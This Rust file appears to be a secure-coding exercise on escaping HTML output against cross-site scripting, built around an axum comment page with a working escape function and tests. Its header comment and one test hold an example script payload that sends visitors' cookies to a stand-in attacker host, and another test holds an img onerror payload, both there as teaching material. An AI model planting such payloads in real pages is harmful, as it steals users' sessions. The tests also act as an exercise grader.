// xss1: escaping HTML output
//
// Cross-site scripting (XSS) is injection into HTML. A comment page that builds its HTML
// with `format!` and pastes each comment in as it was typed lets anyone post
// `<script>fetch('https://evil.example/?c=' + document.cookie)</script>`: the browser of
// every later visitor runs it as if it came from your site, with their cookies and their
// session. The browser cannot tell your markup from the attacker's; only the server can.
//
// The rule: escape on output, for the context you write into. Between tags, five characters
// must become entities so the browser shows them as text instead of parsing them as markup:
//
//     &  ->  &amp;      (first, or you escape your own entities twice)
//     <  ->  &lt;
//     >  ->  &gt;
//     "  ->  &quot;
//     '  ->  &#x27;
//
// (The quotes only matter inside attribute values, which xss2 is about, but escaping them
// everywhere costs nothing.) Store what the user typed and escape when you render: the data
// stays correct for a JSON API, a CSV export or a future template.
//
// Write `escape_html` and use it for everything user-controlled on the page.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Form, State};
use axum::response::{Html, Redirect};
use axum::routing::get;
use serde::Deserialize;

#[derive(Clone, Debug, Deserialize)]
struct Comment {
    author: String,
    body: String,
}

#[derive(Clone, Default)]
struct AppState {
    comments: Arc<Mutex<Vec<Comment>>>,
}

/// Escapes text for HTML, as the table in the header comment says.
fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            _ => out.push(c),
        }
    }
    out
}

fn render_page(comments: &[Comment]) -> String {
    let mut html = String::from("<!doctype html>\n<h1>Comments</h1>\n<ul>\n");
    for comment in comments {
        html.push_str(&format!(
            "<li><b>{}</b>: {}</li>\n",
            escape_html(&comment.author),
            escape_html(&comment.body)
        ));
    }
    html.push_str("</ul>\n");
    html
}

async fn show_comments(State(state): State<AppState>) -> Html<String> {
    let comments = state.comments.lock().unwrap();
    Html(render_page(&comments))
}

async fn add_comment(State(state): State<AppState>, Form(comment): Form<Comment>) -> Redirect {
    state.comments.lock().unwrap().push(comment);
    Redirect::to("/comments")
}

fn app(state: AppState) -> Router {
    Router::new()
        .route("/comments", get(show_comments).post(add_comment))
        .with_state(state)
}

#[tokio::main]
async fn main() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind a local port");
    let addr = listener.local_addr().expect("read the local address");
    println!("listening on http://{addr}/comments");
    axum::serve(listener, app(AppState::default()))
        .await
        .expect("serve");
}

// The tests below check your work. You don't need to change them.
#[cfg(test)]
mod tests {
    use super::*;
    use axum::body::Body;
    use axum::http::{Request, StatusCode, header};
    use http_body_util::BodyExt;
    use tower::ServiceExt;

    /// Percent-encodes a form value the way a browser does.
    fn form_encode(value: &str) -> String {
        value
            .bytes()
            .map(|b| match b {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'*' => {
                    (b as char).to_string()
                }
                b' ' => "+".to_string(),
                _ => format!("%{b:02X}"),
            })
            .collect()
    }

    async fn post_comment(state: &AppState, author: &str, body: &str) {
        let request = Request::post("/comments")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(format!(
                "author={}&body={}",
                form_encode(author),
                form_encode(body)
            )))
            .unwrap();
        let response = app(state.clone()).oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
    }

    async fn get_page(state: &AppState) -> String {
        let request = Request::get("/comments").body(Body::empty()).unwrap();
        let response = app(state.clone()).oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(
            response.headers()[header::CONTENT_TYPE],
            "text/html; charset=utf-8"
        );
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    #[test]
    fn escapes_the_five_characters() {
        assert_eq!(escape_html("plain text"), "plain text");
        assert_eq!(escape_html("<b>"), "&lt;b&gt;");
        assert_eq!(escape_html("Tom & Jerry"), "Tom &amp; Jerry");
        assert_eq!(escape_html(r#"say "hi""#), "say &quot;hi&quot;");
        assert_eq!(escape_html("it's"), "it&#x27;s");
        assert_eq!(
            escape_html("&lt;"),
            "&amp;lt;",
            "escape `&` first, exactly once"
        );
        assert_eq!(escape_html("héllo 👋"), "héllo 👋");
        assert_eq!(escape_html(""), "");
    }

    #[tokio::test]
    async fn ordinary_comments_are_shown() {
        let state = AppState::default();
        post_comment(&state, "alice", "Nice post!").await;
        let page = get_page(&state).await;
        assert_eq!(
            page,
            "<!doctype html>\n<h1>Comments</h1>\n<ul>\n<li><b>alice</b>: Nice post!</li>\n</ul>\n"
        );
    }

    #[tokio::test]
    async fn a_script_in_a_comment_is_shown_not_run() {
        let state = AppState::default();
        let attack = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>";
        post_comment(&state, "mallory", attack).await;
        let page = get_page(&state).await;
        assert!(
            !page.contains("<script"),
            "the attacker's script tag reached the page:\n{page}"
        );
        assert!(page.contains(
            "<li><b>mallory</b>: &lt;script&gt;fetch(&#x27;https://evil.example/?c=&#x27; + \
             document.cookie)&lt;/script&gt;</li>"
        ));
    }

    #[tokio::test]
    async fn an_event_handler_in_the_author_name_is_shown_not_run() {
        let state = AppState::default();
        post_comment(&state, "<img src=x onerror=alert(1)>", "hi").await;
        let page = get_page(&state).await;
        assert!(
            !page.contains("<img"),
            "the attacker's img tag reached the page:\n{page}"
        );
        assert!(page.contains("<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>"));
    }

    #[tokio::test]
    async fn what_users_type_is_what_others_see() {
        let state = AppState::default();
        post_comment(&state, "Tom & Jerry", "Use &lt; for < in HTML").await;
        let page = get_page(&state).await;
        assert!(page.contains("<li><b>Tom &amp; Jerry</b>: Use &amp;lt; for &lt; in HTML</li>"));
        let stored = state.comments.lock().unwrap()[0].body.clone();
        assert_eq!(stored, "Use &lt; for < in HTML", "store the text as typed");
    }
}
